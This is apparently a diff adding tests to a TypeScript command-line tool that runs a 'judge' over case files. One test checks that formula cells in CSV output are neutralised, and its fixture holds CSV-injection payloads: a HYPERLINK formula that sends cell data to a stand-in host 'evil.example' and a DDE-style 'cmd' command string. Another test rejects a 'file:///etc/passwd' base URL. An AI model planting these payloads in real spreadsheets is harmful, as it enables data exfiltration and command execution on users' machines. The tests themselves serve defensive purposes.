@@ -147,6 +147,28 @@ describe('gatehouse judge run', () => {
     }
   });
 
+  it('writes a .csv --out with formula cells neutralised, or as they are with --csv-raw', async () => {
+    const formulas = join(dir, 'formulas.jsonl');
+    const states = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(1+9)*cmd|' /C calc'!A0", '-2+3'];
+    writeFileSync(
+      formulas,
+      states.map((state) => JSON.stringify({ state, offers_refund: false })).join('\n'),
+    );
+    const stateColumn = async (extra: string[]) => {
+      const out = join(dir, `formulas-${extra.length}.csv`);
+      const t = io();
+      const code = await judgeRun(
+        ['--set', SET, '--cases', formulas, '--sandbox', '--out', out, ...extra],
+        t.io,
+      );
+      expect(code, t.err.join('\n')).toBe(EXIT.ok);
+      const [header, ...records] = parseCsv(readFileSync(out, 'utf8')).map((r) => r.fields);
+      return records.map((r) => r[header.indexOf('state')]);
+    };
+    expect(await stateColumn([])).toEqual(states.map((s) => `'${s}`));
+    expect(await stateColumn(['--csv-raw'])).toEqual(states);
+  });
+
   it('exits 2 with the rule when the command cannot run', async () => {
     const missing = io();
     expect(await judgeRun(['--cases', CASES, '--sandbox'], missing.io)).toBe(EXIT.failed);
@@ -161,6 +183,27 @@ describe('gatehouse judge run', () => {
       await judgeRun(['--set', SET, '--cases', CASES, '--sandbox', '--model', 'judge-9'], badModel.io),
     ).toBe(EXIT.failed);
     expect(badModel.err[0]).toMatch(/--model must be one of judge-1\.13\.0, judge-latest, judge-preview/);
+    // A base URL of another scheme: one sentence naming the flag and the rule, not zod's JSON.
+    const fileUrl = io();
+    expect(
+      await judgeRun(['--set', SET, '--cases', CASES, '--base-url', 'file:///etc/passwd'], {
+        ...fileUrl.io,
+        env: { GATEWAY_API_KEY: 'sk-test' },
+      }),
+    ).toBe(EXIT.failed);
+    expect(fileUrl.err).toEqual([
+      '--base-url must be an http:// or https:// address (file: is not one), e.g. https://gateway.example.com',
+    ]);
+    // A folder as --set: the flag named, not a bare EISDIR.
+    const folder = io();
+    expect(await judgeRun(['--set', dir, '--cases', CASES, '--sandbox'], folder.io)).toBe(EXIT.failed);
+    expect(folder.err).toEqual([`--set must name a file: ${dir} is a folder`]);
+    const missingSet = io();
+    const nowhere = join(dir, 'no-such.question-set.json');
+    expect(await judgeRun(['--set', nowhere, '--cases', CASES, '--sandbox'], missingSet.io)).toBe(
+      EXIT.failed,
+    );
+    expect(missingSet.err).toEqual([`--set: ${nowhere} does not exist`]);
   });
 
   it('runs as `gatehouse judge run` from the command line, with its exit codes', () => {
